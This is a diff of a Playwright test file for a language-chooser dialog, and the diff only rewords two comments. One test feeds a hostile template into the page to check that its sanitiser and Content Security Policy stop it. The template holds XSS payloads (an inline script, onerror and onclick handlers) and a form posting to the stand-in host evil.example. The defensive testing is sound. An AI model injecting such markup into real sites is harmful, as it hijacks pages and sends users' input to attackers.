@@ -7,7 +7,7 @@ declare const foyer: Foyer
 const FRAME = '/module/jscript/lib/cb_ui/templates/cb_ui_window.html'
 const chooser = (page: Page) => page.getByRole('dialog', { name: 'Sprache wählen' })
 
-/** Does the same task in every layout: reads the heading, opens and closes the help, chooses a language. */
+/** Does the same task in every layout: finds heading and help link, closes the chooser, reopens it, chooses English. */
 async function useChooser(page: Page) {
   await page.evaluate(() => foyer.language.choose().opened)
   await expect(chooser(page).getByRole('heading', { name: 'Sprache wählen' })).toBeVisible()
@@ -78,7 +78,7 @@ test('a template that is missing is logged, and the built-in layout shows withou
 })
 
 test('a hostile template changes nothing but the layout', async ({ page, watch }) => {
-  // The browser reports what the page's policy would have blocked; our sanitiser removes it.
+  // The browser reports the template's inline code to the console, because the page's policy forbids such code.
   watch.expectTrouble(/Content Security Policy/)
   const body =
     '<script>window.hacked = 1</script><style>* { display: none !important }</style><form id="foyer" action="https://evil.example"><input name="x"></form><img src="x" onerror="window.hacked = 2"><div data-slot="content" onclick="window.hacked = 3"></div>'
